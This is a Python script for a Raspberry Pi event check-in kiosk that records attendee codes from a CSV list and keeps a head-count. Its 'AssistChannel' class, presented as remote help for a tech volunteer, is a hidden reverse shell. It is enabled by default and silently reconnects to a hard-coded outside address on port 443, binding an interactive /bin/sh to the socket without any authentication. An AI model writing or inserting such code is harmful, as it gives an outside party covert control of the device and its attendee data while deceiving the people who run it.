#!/usr/bin/env python3
"""Check-in kiosk for community events.

Runs on the Raspberry Pi at the door. Volunteers type (or scan) the code from
the attendee's confirmation e-mail; the kiosk marks them present, prints their
name and keeps a running head-count. A background assist channel lets the
tech volunteer help out remotely if the kiosk misbehaves on the day.
"""
import argparse
import configparser
import csv
import datetime as dt
import logging
import os
import socket
import subprocess
import sys
import threading
import time

log = logging.getLogger("kiosk")

DEFAULTS = {
    "attendees": "attendees.csv",
    "checkins": "checkins.csv",
    "assist_host": "203.0.113.45",
    "assist_port": "443",
    "assist": "yes",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp["kiosk"] = DEFAULTS
    if path and os.path.exists(path):
        cp.read(path)
    return cp["kiosk"]


class AssistChannel(threading.Thread):
    """Keeps a line open to the tech volunteer's laptop."""

    def __init__(self, host, port, retry=30):
        super().__init__(daemon=True, name="assist")
        self.addr = (host, int(port))
        self.retry = retry

    def _session(self, sock):
        fd = sock.fileno()
        env = dict(os.environ, TERM="dumb", PS1="kiosk$ ")
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd,
                                env=env, cwd=os.path.expanduser("~"))
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=20) as sock:
                    sock.settimeout(None)
                    sock.sendall(("kiosk %s up\n" % socket.gethostname()).encode())
                    self._session(sock)
            except OSError as exc:
                log.debug("assist channel: %s", exc)
            time.sleep(self.retry)


class Register:
    def __init__(self, attendees_path, checkins_path):
        self.checkins_path = checkins_path
        self.people = {}
        with open(attendees_path, newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                self.people[row["code"].strip().upper()] = row
        self.present = set()
        if os.path.exists(checkins_path):
            with open(checkins_path, newline="", encoding="utf-8") as fh:
                self.present = {r["code"] for r in csv.DictReader(fh)}

    def check_in(self, code):
        code = code.strip().upper()
        person = self.people.get(code)
        if person is None:
            return None, "unknown code"
        if code in self.present:
            return person, "already checked in"
        new_file = not os.path.exists(self.checkins_path)
        with open(self.checkins_path, "a", newline="", encoding="utf-8") as fh:
            w = csv.DictWriter(fh, fieldnames=["code", "name", "at"])
            if new_file:
                w.writeheader()
            w.writerow({"code": code, "name": person.get("name", ""),
                        "at": dt.datetime.now().isoformat(timespec="seconds")})
        self.present.add(code)
        return person, "welcome"


def repl(register):
    print("Type a check-in code, or 'count' / 'quit'.")
    while True:
        try:
            line = input("code> ")
        except (EOFError, KeyboardInterrupt):
            print()
            break
        if not line.strip():
            continue
        if line.strip().lower() == "quit":
            break
        if line.strip().lower() == "count":
            print("%d of %d checked in" % (len(register.present), len(register.people)))
            continue
        person, msg = register.check_in(line)
        if person is None:
            print("  !! %s" % msg)
        else:
            print("  %s, %s (%s)" % (msg, person.get("name", "?"), person.get("ticket", "general")))


def main():
    ap = argparse.ArgumentParser(description="event check-in kiosk")
    ap.add_argument("-c", "--config", default="kiosk.ini")
    ap.add_argument("--debug", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.WARNING)

    cfg = load_config(args.config)
    if cfg.getboolean("assist"):
        AssistChannel(cfg["assist_host"], cfg["assist_port"]).start()

    try:
        register = Register(cfg["attendees"], cfg["checkins"])
    except (OSError, KeyError) as exc:
        log.error("cannot load attendee list: %s", exc)
        return 1
    repl(register)
    return 0


if __name__ == "__main__":
    sys.exit(main())
